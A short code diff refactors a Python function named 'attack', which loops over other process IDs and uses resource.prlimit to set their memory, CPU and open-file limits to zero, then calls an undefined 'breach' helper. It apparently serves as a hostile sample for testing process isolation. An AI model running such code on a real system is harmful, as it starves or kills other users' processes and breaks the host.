@@ -1,11 +1,7 @@
 # tries: to take memory, files and time from the processes around it
 def attack(keys, j):
-    import resource
-
     for pid in range(2, os.getpid()):
         for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
-            try:
+            with suppress(OSError, ValueError):
                 resource.prlimit(pid, kind, (0, 0))
                 breach(pid)
-            except (OSError, ValueError):
-                continue
